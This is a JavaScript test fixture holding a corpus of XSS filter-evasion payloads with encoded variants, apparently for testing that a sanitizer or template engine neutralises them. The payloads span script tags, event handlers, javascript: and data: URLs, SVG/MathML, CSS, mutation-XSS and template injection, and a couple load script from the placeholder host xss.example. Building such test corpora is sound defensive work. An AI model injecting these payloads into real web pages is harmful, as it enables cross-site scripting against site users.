// The XSS corpus: the classic filter-evasion families (OWASP's XSS filter evasion
// cheat sheet, PortSwigger's XSS cheat sheet, the mutation-XSS papers), each
// payload calling alert(1) (or writing window.__pwned) if it ever runs. Base
// vectors are written out; case, entity and whitespace variants are derived from
// them, so the list stays readable. Every payload is a string the sanitizer or the
// template engine must make harmless.

const base = [
  // Script elements.
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//xss.example/x.js></SCRIPT>',
  '<script/xss src="data:text/javascript,alert(1)"></script>',
  '<<script>alert(1);//<</script>',
  '<script>window.__pwned=1</script>',
  '</title><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '"><script>alert(1)</script>',
  "'><script>alert(1)</script>",
  // Event handlers.
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)">',
  '<img src=x onerror=alert`1`>',
  '<img/src/onerror=alert(1)>',
  '<IMG SRC=x ONERROR=alert(1)>',
  '<img src=x:alert(1) onerror=eval(src)>',
  '<body onload=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg/onload=alert(1)>',
  '<div onmouseover="alert(1)">hover</div>',
  '<input autofocus onfocus=alert(1)>',
  '<select autofocus onfocus=alert(1)>',
  '<textarea autofocus onfocus=alert(1)>',
  '<keygen autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)>',
  '<audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>',
  '<body onpageshow=alert(1)>',
  '<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>',
  '<img src=x onerror="&#x61;&#x6c;&#x65;&#x72;&#x74;(1)">',
  '<img src=x onerror=\\u0061lert(1)>',
  '<a onclick=alert(1) href=#>click</a>',
  '<p style="x" onclick="alert(1)">p</p>',
  '<form><button formaction=javascript:alert(1)>go</button></form>',
  '<form action=javascript:alert(1)><input type=submit></form>',
  '<button type=submit form=checkout formaction=javascript:alert(1)>pay</button>',
  '<button onclick=alert(1)>click</button>',
  '<isindex action=javascript:alert(1) type=submit>',
  '<input type=image src=x onerror=alert(1)>',
  '<object data=javascript:alert(1)>',
  '<embed src=javascript:alert(1)>',
  '<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
  // Protocol tricks.
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="&#x6A;avascript:alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="\x01javascript:alert(1)">x</a>',
  '<a href="javascript://%0aalert(1)">x</a>',
  '<a xlink:href="javascript:alert(1)">x</a>',
  '<img src="javascript:alert(1)">',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<img srcset="javascript:alert(1) 1x">',
  '<area href=javascript:alert(1)>',
  '<base href="javascript:alert(1)//">',
  '<link rel=import href="data:text/html,<script>alert(1)</script>">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  // Frames and srcdoc.
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;"></iframe>',
  '<frameset onload=alert(1)>',
  '<iframe src="data:text/html,<script>alert(1)</script>">',
  // SVG and MathML.
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><set attributeName=onload to=alert(1)>',
  '<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<math href="javascript:alert(1)">x</math>',
  '<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>',
  '<svg><use href="data:image/svg+xml,<svg id=x><image href=x onerror=alert(1)/></svg>#x">',
  // CSS.
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<div style="width: expression(alert(1))">x</div>',
  '<style>@import "javascript:alert(1)";</style>',
  '<style>*{background:url("javascript:alert(1)")}</style>',
  '<style>body{display:none}</style>visible?',
  '<link rel=stylesheet href="javascript:alert(1)">',
  '<div style="-moz-binding:url(//xss.example/x.xml#xss)">x</div>',
  '<p style="position:fixed;top:0;left:0;width:100%;height:100%" onclick=alert(1)>overlay</p>',
  // Mutation XSS and parser confusion.
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<math><mi><table><mi><style><img src=x onerror=alert(1)>',
  '<listing>&lt;img src=x onerror=alert(1)&gt;</listing>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<noembed><img src=x onerror=alert(1)></noembed>',
  '<noframes><img src=x onerror=alert(1)></noframes>',
  '<template><img src=x onerror=alert(1)></template>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<title><img src=x onerror=alert(1)></title>',
  '<!--<img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<? <img src=x onerror=alert(1)> ?>',
  '<img """><script>alert(1)</script>">',
  '<img src=`x`onerror=alert(1)>',
  '<a href=x onmouseover=alert(1)//>',
  '<div id="x" is="x" onclick=alert(1)>',
  '<custom-el onclick=alert(1)>x</custom-el>',
  '<dialog open onclose=alert(1)><form method=dialog><button>x</button></form></dialog>',
  // Attribute breaking (for templates put into attributes).
  '" onmouseover="alert(1)',
  "' onmouseover='alert(1)",
  '"><img src=x onerror=alert(1)>',
  '" autofocus onfocus="alert(1)',
  'x" style="position:fixed" onclick="alert(1)',
  '`onmouseover=alert(1)',
  // Template and interpolation tricks.
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '{{7*7}}',
  '<%= alert(1) %>',
  '#{alert(1)}',
];

const encodings = [
  (s) => s.toUpperCase(),
  (s) => s.replace(/</g, '%3C').replace(/>/g, '%3E'),
  (s) => s.replace(/</g, '&lt;').replace(/>/g, '&gt;'),
  (s) => s.replace(/ /g, '/'),
];

/** At least 150 payloads: the base vectors, then derived variants of the first ones. */
export const payloads = [...base];
for (const encode of encodings) {
  for (const p of base.slice(0, 12)) {
    const v = encode(p);
    if (!payloads.includes(v)) payloads.push(v);
  }
}
